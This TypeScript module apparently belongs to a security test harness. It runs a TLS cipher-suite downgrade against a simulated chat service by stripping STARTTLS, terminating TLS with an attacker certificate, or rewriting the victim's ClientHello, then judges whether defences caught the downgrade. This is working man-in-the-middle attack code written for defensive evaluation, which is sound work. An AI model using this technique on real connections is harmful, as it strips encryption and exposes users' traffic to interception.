/**
 * `downgrade-suite`: TLS cipher-suite downgrade — the attacker makes the victim's TLS session run
 * the weakest cipher suite the victim offers (static-RSA key exchange, without forward secrecy,
 * < forward-secret CBC < forward-secret AEAD; within a class a key under 128 bits (AES-128 and AES-256 rank alike); ranked by
 * core/tls/cipher-suites.ts `compareSuiteStrength`), from the strongest position it holds
 * without a premise (attacks/kit/position.ts):
 *
 * - STARTTLS stripped: no TLS is left to downgrade — the session runs without any, a worse
 *   downgrade than any suite.
 * - TLS terminated with a certificate the victim accepts: the attacker's hop to the victim picks
 *   the weakest suite the victim offers.
 * - TLS only relayed: the attacker rewrites the ClientHello's cipher_suites to the weakest suites
 *   of the victim's offer (core/tls/client-hello-rewrite.ts) and relays the rest. The handshake
 *   transcript should catch it — the Finished check (RFC 5246 §7.4.9), or in TLS 1.3 the key
 *   schedule the transcript feeds (RFC 8446 §4.4.1, §7.1) — and the verdict names what did.
 *
 * Judged by what happened: the suite alice's client actually negotiated, compared with the
 * server's own choice for her untouched offer (her recorded ClientHello sent to the same server
 * again, and its ServerHello read) — never by a table of expected outcomes. The verdict from those
 * observations is attacks/kit/downgrade-suite-verdict.ts (pure); this file runs the attack.
 */
import { X509Certificate } from 'node:crypto';
import type tls from 'node:tls';
import { usesTls } from '../../core/profile.ts';
import { CIPHER_SUITES, compareSuiteStrength, describeSuite, type CipherSuiteInfo } from '../../core/tls/cipher-suites.ts';
import { rewriteClientHelloSuites } from '../../core/tls/client-hello-rewrite.ts';
import { conversationEvidence, findCanary, proxyEvidence, serverRefusals, sightingEvidence } from '../kit/evidence.ts';
import { attackerIdentity, chainPrefix, positionAddon, positionEvidence, type Position } from '../kit/position.ts';
import type { ProxyAddon, ProxyConnectionRecord, ProxyEngine, ReplayChunk } from '../proxy.ts';
import { serverFlight, suiteOffer, weakestSuites, type SuiteOffer } from '../kit/suite-offer.ts';
import { rewriteVerdict, strongestSuite, suiteNames as names, terminationVerdict } from '../kit/downgrade-suite-verdict.ts';

export { suiteOffer, weakestSuites } from '../kit/suite-offer.ts';
import type { Attack, AttackContext, Evidence, Observations, Verdict } from '../types.ts';

const TLS13 = 0x0304;
/** Longest wait for the server's ServerHello to the victim's untouched ClientHello, ms. */
const CONTROL_ANSWER_TIMEOUT_MS = 2000;

/** The victim's side of connection `rec` on the wire (client-wire), one direction. */
function wire(engine: ProxyEngine, rec: ProxyConnectionRecord, dir: 'c2s' | 's2c'): Buffer {
  return engine.bytes({ conn: rec.id, dir, layer: 'client-wire' });
}

/**
 * The control: the server's own choice for the victim's untouched offer. Sends what the victim
 * sent on `rec` up to and including its ClientHello (a STARTTLS request first, waiting for the
 * answer where the victim did) to the same server on a fresh connection, and reads the ServerHello.
 * @returns the suite the server chose, or null with why not
 */
async function serverChoiceForUntouched(engine: ProxyEngine, rec: ProxyConnectionRecord): Promise<{ suite: Readonly<CipherSuiteInfo> | null; detail: string }> {
  const hello = rec.clientHello;
  if (!hello) return { suite: null, detail: 'no ClientHello was recorded' };
  const chunks: ReplayChunk[] = [];
  let serverSpoke = false;
  for (const c of engine.traffic) {
    if (c.conn !== rec.id || c.layer !== 'client-wire') continue;
    if (c.dir === 's2c') serverSpoke = true;
    else {
      chunks.push({ data: c.data, awaitAnswer: serverSpoke });
      serverSpoke = false;
      if (c.data.equals(hello)) break;
    }
  }
  const r = await engine.replayOnNewConnection(chunks, {
    settled: (_peer, answer) => { const f = serverFlight(answer); return !!f.serverHello || f.alerts.length > 0; },
    timeoutMs: CONTROL_ANSWER_TIMEOUT_MS,
  });
  const f = serverFlight(r.response);
  const suite = f.serverHello ? (CIPHER_SUITES.get(f.serverHello.cipherSuite.id) ?? null) : null;
  if (suite) return { suite, detail: `the server's own choice for alice's untouched ClientHello (sent to it again on a fresh connection): ${describeSuite(suite)}` };
  return { suite: null, detail: f.serverHello ? `the server chose ${f.serverHello.cipherSuite.name}, which secchat does not rank` : `the server sent no ServerHello to alice's untouched ClientHello${f.alerts.length ? ` (alert: ${f.alerts.join(', ')})` : ''}` };
}

/** alice's connection record (her address as the proxy saw it), else the first with a ClientHello. */
function aliceConnection(obs: Observations): ProxyConnectionRecord | undefined {
  const conns = obs.proxy?.connections ?? [];
  const peer = obs.clients.alice.localAddress;
  return conns.find((c) => c.clientPeer === peer && c.clientHello) ?? conns.find((c) => c.clientHello);
}

/** The position without the rungs inside TLS (a channel taken over plays no part in a TLS downgrade). */
function tlsPosition(pos: Position): Position {
  return { ...pos, channel: null, weakCipher: null, steps: pos.steps.filter((s) => !s.startsWith('took over') && !s.startsWith('rewrote')) };
}

/** Rung 2: with the STARTTLS offer stripped the session runs with no TLS at all. @returns null when not observed */
async function suiteByStrip(ctx: AttackContext, pos: Position): Promise<Verdict | null> {
  const runPos: Position = { ...pos, tls: null };
  const positioned = positionAddon(runPos, ctx.pki, { name: 'downgrade-suite' });
  const obs = await ctx.runConversation({ addon: positioned.addon });
  const alice = obs.clients.alice;
  if (!alice.connected || alice.negotiated !== null) return null;
  if (!obs.proxy!.connections.some((c) => c.notes.some((n) => n.startsWith('removed "starttls": true')))) return null;
  const sightings = findCanary(obs.proxy!.engine, ctx.canary, ['client-wire', 'plaintext']);
  const evidence: Evidence[] = [
    { kind: 'downgraded-to', detail: `alice's client connected with no TLS at all (negotiated: none, so no cipher suite) although the profile's transport is ${ctx.profile.transport}` },
    ...sightingEvidence(sightings, ctx.canary),
    ...positionEvidence(runPos),
    ...proxyEvidence(obs),
    ...conversationEvidence(obs),
  ];
  return {
    outcome: 'succeeded',
    reason: `${chainPrefix(runPos)}alice's session ran with no TLS at all — no cipher suite is left to downgrade, which is worse than any weak suite${sightings.length ? '; the attacker read the canary' : ''}`,
    summary: 'no TLS: STARTTLS stripped',
    impact: ['confidentiality', 'integrity'],
    evidence,
    negotiated: null,
    data: { via: 'starttls-strip', canaryRead: sightings.length > 0 },
  };
}

/** The OpenSSL settings that make the attacker's hop accept exactly `suite`. */
function hopSettings(suite: Readonly<CipherSuiteInfo>): { ciphers: string; maxVersion?: tls.SecureVersion } {
  // node sorts TLS_* names into the TLS 1.3 suites; the ≤ 1.2 list must not be empty, and is unused at 1.3.
  if (suite.keyExchange === 'TLS13') return { ciphers: `${suite.name}:ALL:@SECLEVEL=0` };
  return { ciphers: `${suite.openssl}:@SECLEVEL=0`, maxVersion: 'TLSv1.2' };
}

/** Rung 3: the attacker's hop to the victim picks the weakest suite the victim offers. */
async function suiteByTermination(ctx: AttackContext, pos: Position, cert: NonNullable<Position['tls']>['cert']): Promise<Verdict> {
  const runPos = tlsPosition(pos);
  const identity = attackerIdentity(ctx.pki, cert);
  const keyType = new X509Certificate(identity.certPem).publicKey.asymmetricKeyType;
  // The attacker's certificate signs the handshake: it can only serve suites whose authentication its key does.
  const serves = (s: Readonly<CipherSuiteInfo>) => s.authentication === null || (s.authentication === 'RSA') === (keyType === 'rsa');
  let picked: Readonly<CipherSuiteInfo> | null = null;
  let offer: SuiteOffer | null = null;
  const addon: ProxyAddon = {
    name: 'downgrade-suite',
    onClientHello(conn, _raw, hello) {
      if (!hello) return { action: 'terminate', identity };
      offer ??= suiteOffer(hello);
      const w = weakestSuites(suiteOffer(hello).suites.filter(serves))[0];
      if (!w) return { action: 'terminate', identity };
      picked ??= w;
      conn.note(`the attacker's hop to the victim accepts only ${w.name}, the weakest suite the victim offers that its ${keyType} certificate can serve`);
      return { action: 'terminate', identity, ...hopSettings(w) };
    },
  };
  const server = await ctx.startServer();
  const obs = await ctx.runConversation({ addon, server });
  const aliceConn = aliceConnection(obs);
  const control = aliceConn ? await serverChoiceForUntouched(obs.proxy!.engine, aliceConn) : { suite: null, detail: 'alice sent no ClientHello through the attacker' };
  return terminationVerdict({
    chain: chainPrefix(runPos),
    offer,
    control,
    negotiated: obs.clients.alice.negotiated,
    error: obs.clients.alice.error,
    cert,
    acceptedStep: runPos.steps.find((s) => s.startsWith('terminated TLS')) ?? 'probed',
    context: [...positionEvidence(runPos), ...proxyEvidence(obs), ...conversationEvidence(obs)],
  });
}

/** Rung 1: rewrite the relayed ClientHello's cipher_suites to the weakest the victim offers. */
async function suiteByRewrite(ctx: AttackContext, pos: Position): Promise<Verdict> {
  const runPos = tlsPosition(pos);
  let offer: SuiteOffer | null = null;
  let kept: Array<Readonly<CipherSuiteInfo>> = [];
  let strippedTls13 = false;
  const addon: ProxyAddon = {
    name: 'downgrade-suite',
    onClientHello(_conn, raw, hello) {
      if (!hello) return { action: 'relay' };
      const o = suiteOffer(hello);
      offer ??= o;
      const weakest = weakestSuites(o.suites);
      // Nothing below the victim's best: a rewrite would change nothing worth having.
      if (!weakest.length || compareSuiteStrength(weakest[0]!, strongestSuite(o.suites)) === 0) return { action: 'relay' };
      kept = weakest;
      // Signalling values (SCSVs, GREASE) stay: only the real suites are stripped.
      const signalling = hello.cipherSuites.filter((s) => !CIPHER_SUITES.has(s.id) && (s.name === 'GREASE' || s.name.endsWith('_SCSV'))).map((s) => s.id);
      // Kept suites that TLS 1.3 cannot use: take TLS 1.3 out of supported_versions too, or the
      // server picks 1.3 and finds no suite — the attacker would stop itself before the real defence.
      const versions = weakest.every((s) => s.keyExchange !== 'TLS13') && o.tls13 ? hello.supportedVersions!.filter((v) => v !== TLS13) : undefined;
      strippedTls13 ||= !!versions;
      return {
        action: 'rewrite',
        hello: rewriteClientHelloSuites(raw, [...weakest.map((s) => s.id), ...signalling], versions ? { supportedVersions: versions } : {}),
        note: `rewrote the ClientHello's cipher_suites from ${hello.cipherSuites.map((s) => s.name).join(', ')} to ${names(weakest)}${signalling.length ? ' (signalling values kept)' : ''}${versions ? ', and took TLS 1.3 out of supported_versions (none of the kept suites is a TLS 1.3 suite)' : ''}`,
      };
    },
  };
  const server = await ctx.startServer();
  const obs = await ctx.runConversation({ addon, server });
  const context = [...positionEvidence(runPos), ...proxyEvidence(obs), ...conversationEvidence(obs)];
  const aliceConn = aliceConnection(obs);
  // The control is the first ClientHello the proxy saw: a client's first attempt, at the profile's
  // highest version (a retry always follows a failed attempt). alice's last connection may be a
  // fallback retry at a lower version, whose offer the rewrite already made poorer.
  const firstHello = (obs.proxy?.connections ?? []).filter((c) => c.clientHello).sort((a, b) => a.id - b.id)[0];
  const measure = offer !== null && kept.length > 0;
  const control = measure && firstHello ? await serverChoiceForUntouched(obs.proxy!.engine, firstHello) : { suite: null, detail: 'alice sent no ClientHello through the attacker' };
  return rewriteVerdict({
    chain: chainPrefix(runPos),
    offer,
    kept,
    strippedTls13,
    control,
    negotiated: obs.clients.alice.negotiated,
    error: obs.clients.alice.error,
    fallbackAttempts: obs.clients.alice.fallbackAttempts,
    canaryThrough: obs.bobReceived === obs.canaryMessage,
    flight: aliceConn ? serverFlight(wire(obs.proxy!.engine, aliceConn, 's2c')) : { serverHello: null, alerts: [] },
    clientAlerts: aliceConn ? serverFlight(wire(obs.proxy!.engine, aliceConn, 'c2s')).alerts : [],
    refusals: serverRefusals(obs).filter((r) => r.event === 'tls_error' || r.event === 'socket_error'),
    context,
  });
}

export const downgradeSuite: Attack = {
  id: 'downgrade-suite',
  title: 'TLS cipher-suite downgrade',
  description:
    "From the strongest position it holds without a premise, the attacker makes the victim's TLS session run the weakest cipher suite the victim offers (static-RSA key exchange < forward-secret CBC < forward-secret AEAD; then a key under 128 bits): with STARTTLS stripped there is no TLS left at all; with TLS terminated under a certificate the victim accepts, its own hop picks that suite; otherwise it rewrites the relayed ClientHello's cipher_suites to the weakest ones. Succeeds only if alice's session is observed on a weaker suite than the server chooses for her untouched offer (or on no TLS); blocked names what stopped it — the Finished check or the TLS 1.3 key schedule catching the rewritten transcript, a server that accepts none of the kept suites, or an offer with nothing weaker in it.",
  applicability(p) {
    return usesTls(p) ? null : 'the profile uses no TLS: there is no cipher-suite offer to downgrade';
  },
  async run(ctx) {
    const pos = await ctx.position();
    if (pos.strippedStarttls) {
      const r = await suiteByStrip(ctx, pos);
      if (r) return r;
    }
    if (pos.tls) return suiteByTermination(ctx, pos, pos.tls.cert);
    return suiteByRewrite(ctx, pos);
  },
};
